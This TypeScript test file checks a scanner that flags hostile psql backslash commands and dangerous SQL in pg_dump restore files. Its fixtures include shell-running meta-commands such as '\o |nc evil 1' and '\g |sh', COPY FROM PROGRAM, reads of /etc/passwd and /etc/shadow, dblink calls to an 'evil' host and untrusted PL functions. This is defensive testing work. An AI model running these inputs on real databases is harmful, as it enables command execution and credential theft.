/**
 * Hostile content: psql backslash commands wherever psql's lexer would run them, and SQL pg_dump never writes.
 * Each case was checked against psql 15.18 (a `\! echo` marker either ran or did not). Every hostile input is
 * also scanned in 1-byte and random chunks to show the verdict does not depend on chunk boundaries.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { PlainScanOptions } from '../../src/scan/types.js';
import { kinds, scan, blocksOf } from './scan-helpers.js';

const PREAMBLE = 'SET client_encoding = \'UTF8\';\nSET standard_conforming_strings = on;\n'; // lines 1-2, as pg_dump writes

/** Scans PREAMBLE + body (so body line 1 is dump line 3), checking that chunking does not change the result. */
function findings(body: string, opts?: PlainScanOptions): string[] {
  const text = PREAMBLE + body;
  const whole = scan(text, opts);
  assert.deepEqual(scan(text, opts, 1), whole, '1-byte chunks change the result');
  assert.deepEqual(scan(text, opts, { seed: 7 }), whole, 'random chunks change the result');
  return kinds(whole.findings);
}

describe('backslash commands run wherever psql\'s lexer is outside quotes and comments', () => {
  test('at the start of a line, with the command text as the finding', () => {
    const r = scan(`${PREAMBLE}SELECT 1;\n\\! touch /tmp/x\n`);
    assert.deepEqual(r.findings, [{ kind: 'meta-command', line: 4, text: '\\! touch /tmp/x' }]);
  });
  test('in the middle of a line: SELECT 1 \\! cmd', () => {
    assert.deepEqual(findings('SELECT 1 \\! touch /tmp/x\n'), ['meta-command@3']);
  });
  test('after a dollar quote closed on the same line, and after a nested-looking tag', () => {
    assert.deepEqual(findings('SELECT $$ body\nmore $$ \\! id\n'), ['meta-command@4']);
    assert.deepEqual(findings('SELECT $a$ $b$ \\! no $b$ $a$ \\! yes\n'), ['meta-command@3']);
    assert.deepEqual(findings('SELECT x$$ \\! id\n'), ['meta-command@3'], '$$ inside an identifier does not open a quote');
  });
  test('every dangerous command form is refused', () => {
    const lines = [
      '\\gexec', '\\o |nc evil 1', '\\copy t from program \'id\'', '\\set x 1', '\\i /etc/passwd', '\\ir x.sql',
      '\\setenv PAGER id', '\\w /tmp/x', 'SELECT 1 \\g |sh', '\\echo `id`', '\\c other', '\\include x', '\\',
      '\\connect "dbname=x host=evil"', '\\connect -reuse-previous=on "dbname=\'x\' host=evil"', '\\connect db \\! id',
      '\\; SELECT 1', '\\.',
    ];
    assert.deepEqual(findings(lines.join('\n') + '\n'), lines.map((_l, i) => `meta-command@${i + 3}`));
  });
  test('after a line comment ended by a carriage return', () => {
    assert.deepEqual(findings('-- harmless\r\\! id\n'), ['meta-command@3']);
  });
  test('after a backslash that ended an E\'\' literal line (it escapes nothing on the next line)', () => {
    assert.deepEqual(findings("SELECT E'abc\\\n' \\! id\n"), ['meta-command@4']);
  });
  test('a plain literal ends at a quote after a backslash when standard_conforming_strings is on', () => {
    assert.deepEqual(findings("SELECT 'C:\\' \\! id\n"), ['meta-command@3']);
    assert.deepEqual(findings("SELECT B'0\\' \\! id\n"), ['meta-command@3'], 'bit strings take no escapes');
  });
  test('when a statement is left open, psql reads COPY data that follows as commands', () => {
    // psql sends `SELECT 1 COPY t FROM stdin;` as one statement (an error), then runs the "data" lines.
    const r = scan(`${PREAMBLE}SELECT 1 \\echo hi\nCOPY t FROM stdin;\n\\! id\n\\.\n`);
    assert.deepEqual(kinds(r.findings), ['meta-command@3', 'meta-command@5', 'meta-command@6']);
    assert.deepEqual(r.copyBlocks, []);
  });
  test('CREATE FUNCTION … BEGIN keeps psql from ending the statement at ;, so COPY is not COPY', () => {
    const r = scan(`${PREAMBLE}CREATE FUNCTION begin;\nCOPY t FROM stdin;\n\\! id\n\\.\n`);
    assert.deepEqual(kinds(r.findings), ['meta-command@5', 'meta-command@6']);
    assert.deepEqual(r.copyBlocks, []);
  });
  test('parentheses keep a statement open too', () => {
    assert.deepEqual(findings('COPY t FROM stdin (;\n\\! id\n'), ['meta-command@4']);
  });
  test('a statement after COPY … FROM stdin; on the same line continues after the data', () => {
    const r = scan(`${PREAMBLE}COPY t FROM stdin; SELECT 'x\nrow\n\\.\n' \\! id\n`);
    assert.deepEqual(kinds(r.findings), ['meta-command@6']);
    assert.deepEqual(blocksOf(r), [{ table: 't', rows: 1, terminated: true, line: 3 }]);
  });
});

describe('not commands: literals, quoted identifiers, comments and COPY data', () => {
  test('inside single-quoted, E\'\', dollar-quoted literals and quoted identifiers', () => {
    assert.deepEqual(findings("SELECT 'a \\! id';\nSELECT E'it\\'s \\! id';\nSELECT $fn$ \\! id $x$ \\! id $fn$;\nSELECT \"a \\! id\";\n"), []);
    assert.deepEqual(findings("SELECT U&'\\0041 \\! id';\nSELECT 'line one\n\\! line two';\n"), []);
    assert.deepEqual(findings("SELECT 'a'\r'b \\! id';\n"), [], 'a CR between literals continues the literal');
  });
  test('inside -- comments and nested /* */ comments', () => {
    assert.deepEqual(findings('-- \\! id\n/* outer /* inner */ \\! still comment */ SELECT 1;\n/*\n\\! id\n*/\n'), []);
    assert.deepEqual(findings('/* a /* b */ */ \\! id\n'), ['meta-command@3']);
  });
  test('inside COPY data, including lines that look like SQL, quotes or commands', () => {
    const data = ['1\t\\\\! echo pwned', "2\t'; DROP TABLE x; --", '3\t$$ \\o |sh', '\\! id', '\\gexec', '\\.x', ''].join('\n');
    const r = scan(`${PREAMBLE}COPY public.t (id, v) FROM stdin;\n${data}\\.\nSELECT 1;\n`);
    assert.deepEqual(r.findings, []);
    assert.deepEqual(blocksOf(r), [{ table: 'public.t', rows: 6, terminated: true, line: 3 }]);
  });
  test('with standard_conforming_strings off (from the next line on), a backslash escapes the quote', () => {
    assert.deepEqual(findings("SET standard_conforming_strings = off;\nSELECT 'a\\' \\! id';\n"), []);
    assert.deepEqual(findings("SET standard_conforming_strings = off; SELECT 'a\\' \\! id\n"), ['meta-command@3'], 'same line: old setting');
  });
  test('\\connect, \\restrict and \\unrestrict exactly as pg_dump writes them', () => {
    assert.deepEqual(findings('\\connect pagila\n\\connect "My.DB"\n\\connect -reuse-previous=on "dbname=\'my db\'"\n'), []);
    const r = scan('\\restrict Ab12\nSELECT 1;\n\\unrestrict Ab12\n');
    assert.deepEqual([r.findings, r.trailer.restrictKey, r.trailer.unrestrictKey], [[], 'Ab12', 'Ab12']);
  });
});

describe('\\restrict and \\unrestrict must match exactly (CVE-2026-18408)', () => {
  for (const bad of ['\\unrestrict abc; \\! id', '\\unrestrict a-b', '\\restrict abc ', ' \\restrict abc', '\\restrict', '\\unrestrict abc\r', 'SELECT 1; \\unrestrict abc']) {
    test(JSON.stringify(bad), () => {
      const r = scan(`${bad}\n`);
      assert.equal(r.findings.length, 1);
      assert.equal(r.findings[0]?.kind, 'meta-command');
      assert.equal(r.findings[0]?.line, 1);
      assert.equal(r.trailer.restrictKey, null);
      assert.equal(r.trailer.unrestrictKey, null);
    });
  }
});

describe('SQL pg_dump never writes', () => {
  test('COPY … PROGRAM, across lines and comments, reported at the PROGRAM line', () => {
    assert.deepEqual(findings("COPY t FROM PROGRAM 'id';\nCOPY (SELECT 1) TO PROGRAM 'cat';\ncopy /* c */ t\nFROM\n  program 'id';\n"),
      ['copy-program@3', 'copy-program@4', 'copy-program@7']);
  });
  test('COPY to or from server files; STDIN/STDOUT are fine', () => {
    assert.deepEqual(findings("COPY t FROM '/etc/passwd';\nCOPY (SELECT a FROM t) TO E'/tmp/x';\nCOPY t TO STDOUT;\nCOPY t (a, b) TO stdout WITH (FORMAT csv);\n"),
      ['server-file@3', 'server-file@4']);
  });
  test('file and dblink functions, also quoted and schema-qualified, but not in signatures', () => {
    assert.deepEqual(findings([
      "SELECT pg_read_file('/etc/passwd');",
      "SELECT \"pg_read_binary_file\"('/etc/shadow');",
      "SELECT * FROM pg_catalog.pg_ls_dir('.');",
      "SELECT lo_import('/etc/passwd'), lo_export(1, '/tmp/x');",
      "SELECT dblink_exec('host=evil', 'x');",
      'GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_file(text) TO monitor;',
      'ALTER FUNCTION public.pg_ls_dir(text) OWNER TO x;',
    ].join('\n') + '\n'), ['server-file@3', 'server-file@4', 'server-file@5', 'server-file@6', 'server-file@6', 'other@7']);
  });
  test('ALTER SYSTEM, also with a comment between the words; GRANT ALTER SYSTEM ON PARAMETER is not it', () => {
    assert.deepEqual(findings("ALTER SYSTEM SET archive_command = 'x';\nalter /* hm */\n  system reset all;\nGRANT SET, ALTER SYSTEM ON PARAMETER work_mem TO r;\n"),
      ['alter-system@3', 'alter-system@5']);
  });
  test('functions in LANGUAGE c, internal or an untrusted PL, unless allowed', () => {
    const body = [
      "CREATE FUNCTION public.f() RETURNS int AS '/tmp/x.so', 'f'",
      '  LANGUAGE c;',
      "CREATE OR REPLACE FUNCTION public.py() RETURNS text LANGUAGE plpython3u AS $$ import os $$;",
      "CREATE PROCEDURE p() LANGUAGE 'plperlu' AS $$ system('id') $$;",
      "CREATE FUNCTION alias(text) RETURNS text AS 'pg_read_file_v2' LANGUAGE internal;",
      'DO LANGUAGE plpython3u $$ import os $$;',
      "CREATE FUNCTION ok() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;",
      'CREATE FUNCTION ok2() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;',
    ].join('\n') + '\n';
    assert.deepEqual(findings(body), ['untrusted-function@4', 'untrusted-function@5', 'untrusted-function@6', 'untrusted-function@7', 'untrusted-function@8']);
    assert.deepEqual(findings(body, { allow: { functions: ['public.f', 'py', 'p', 'alias'] } }), ['untrusted-function@8'], 'DO blocks cannot be allowed');
  });
  test('inside function bodies and DO blocks: dynamic SQL, concatenated and escaped', () => {
    assert.deepEqual(findings([
      'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$',
      'BEGIN',
      "  EXECUTE 'COPY t FROM PROGRAM ''id''';",
      "  EXECUTE 'COPY t FROM ' || 'PROGRAM ''id''';",
      "  PERFORM pg_read_file('/etc/passwd');",
      "  EXECUTE format('COPY t TO %L', '/tmp/x');",
      "  EXECUTE 'ALTER SYSTEM SET x = 1';",
      'END $$;',
      "DO $$ BEGIN EXECUTE E'\\x43OPY t FROM PROGRAM ''id'''; END $$;",
      "CREATE FUNCTION g() RETURNS void AS 'BEGIN EXECUTE ''CREATE FUNCTION h() RETURNS int LANGUAGE c AS ''''/x.so''''''; END' LANGUAGE plpgsql;",
      'DO $$ BEGIN EXECUTE \'COPY BINARY "My Schema"."T 1" (a) TO \' || quote_literal(f); END $$;',
    ].join('\n') + '\n'), ['copy-program@5', 'copy-program@6', 'server-file@7', 'server-file@8', 'alter-system@9', 'copy-program@11', 'untrusted-function@12', 'server-file@13']);
  });
  test('prose in comments and data is not code', () => {
    assert.deepEqual(findings([
      "COMMENT ON TABLE t IS 'copy from program files; see pg_read_file(x)';",
      "INSERT INTO t VALUES ('COPY t FROM PROGRAM x', 'alter system');",
      "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT 'a copy of the data from the old system' $$;",
      "CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$ BEGIN -- copy all the rows to 'archive' first\nNULL; END $$;",
      // (A body comment that is itself valid COPY syntax, like "-- copy data to 'archive'", is reported: the matcher
      // reads bodies as text and cannot tell comment from code there.)
      "CREATE FUNCTION h() RETURNS void LANGUAGE plpgsql AS $$ BEGIN -- copy the log from 'x'\nNULL; END $$;",
      "CREATE TABLE copy (a int); SELECT * FROM copy WHERE a = 1; INSERT INTO copy SELECT a FROM t;",
    ].join('\n') + '\n'), []);
  });
  test('LOAD and UESCAPE', () => {
    assert.deepEqual(findings("LOAD '/tmp/evil.so';\nSELECT U&\"d!0061t!+000061\" UESCAPE '!' FROM t;\n"), ['other@3', 'other@4']);
  });
});

describe('input psql would read differently than this scanner (or than other psql versions)', () => {
  test('NUL bytes, in SQL and in COPY data', () => {
    assert.deepEqual(findings('SELECT 1 \u0000;\n'), ['other@3']);
    assert.deepEqual(findings('COPY t FROM stdin;\nok\nbad\u0000row\n\\.\n'), ['other@5']);
  });
  test('multibyte client encodings in which ASCII bytes occur inside characters', () => {
    assert.deepEqual(findings("SET client_encoding = 'SJIS';\nSET NAMES 'big5';\nSET client_encoding = 'LATIN1';\nSELECT set_config('client_encoding', 'GBK', false);\n"),
      ['other@3', 'other@4', 'other@6']);
  });
  test("a role's or database's default client_encoding (pg_dumpall writes Django's `ALTER ROLE … SET client_encoding TO 'utf8'`) is not this session's: refused only for an encoding psql lexes differently", () => {
    assert.deepEqual(findings("ALTER ROLE django SET client_encoding TO 'utf8';\nALTER ROLE \"Äpp\" IN DATABASE shop SET client_encoding = 'LATIN1';\n" +
      'ALTER DATABASE shop SET client_encoding TO win1252;\nALTER USER app RESET client_encoding;\n'), []);
    assert.deepEqual(findings("ALTER ROLE legacy SET client_encoding TO 'SJIS';\nALTER DATABASE shop SET client_encoding TO big5;\n" +
      "ALTER ROLE app SET client_encoding TO 'utf8' || '';\nALTER TABLE t SET (client_encoding = 1);\n"), ['other@3', 'other@4', 'other@5', 'other@6']);
  });
  test('backslash before a quote while standard_conforming_strings is unknown (before pg_dump\'s SET)', () => {
    assert.deepEqual(kinds(scan("SELECT 'a\\' || 'b';\n").findings), ['other@1']);
    assert.deepEqual(kinds(scan("SELECT 'a\\b', E'c\\'d';\n").findings), [], 'no quote right after the backslash: both readings agree');
    // set_config() or a SET inside a transaction block can fail or be rolled back: back to unknown.
    assert.deepEqual(findings("SELECT set_config('standard_conforming_strings', 'on', false);\nSELECT 'a\\' || 'b';\n"), ['other@4']);
    assert.deepEqual(findings("BEGIN;\nSET standard_conforming_strings = on;\nCOMMIT;\nSELECT 'a\\' || 'b';\n"), ['other@6']);
  });
  test('a literal continued on the next line with different backslash rules', () => {
    assert.deepEqual(findings("SELECT E'x'\n'y';\n"), ['other@4']);
    assert.deepEqual(findings("SELECT 'x'\n'y';\n"), [], 'same rules: psql and server agree');
  });
  test('numbers glued to names (PG15 and PG16+ lex them differently) and psql variables', () => {
    assert.deepEqual(findings("SELECT 1e'x';\nSELECT 0x1F, 1_000;\nSELECT 1e10, 1.5e-3, .5, 1..2;\n"), ['other@3', 'other@4', 'other@4']);
    assert.deepEqual(findings("SELECT :'LAST_ERROR_MESSAGE';\nSELECT :VERSION;\nSELECT arr[1:n], x::int;\n"), ['other@3', 'other@4']);
  });
});

describe('limits', () => {
  test('findings are capped at 1000, the rest counted', () => {
    const r = scan('\\! id\n'.repeat(1500));
    assert.equal(r.findings.length, 1000);
    assert.equal(r.findingsOmitted, 500);
  });
  test('extra meta-commands can be allowed, but not with backslashes or backquotes in their arguments', () => {
    const opts = { allow: { metaCommands: ['\\set', 'echo'] } };
    assert.deepEqual(kinds(scan('\\set ON_ERROR_STOP on\n\\echo done\n\\echo `id`\n\\set a 1 \\! id\n', opts).findings), ['meta-command@3', 'meta-command@4']);
  });
  test('long lines and statements do not break the scan', () => {
    const long = `SELECT '${'x'.repeat(3_000_000)}' \\! id\n`;
    assert.deepEqual(kinds(scan(long, undefined, 65536).findings), ['meta-command@1']);
  });
});
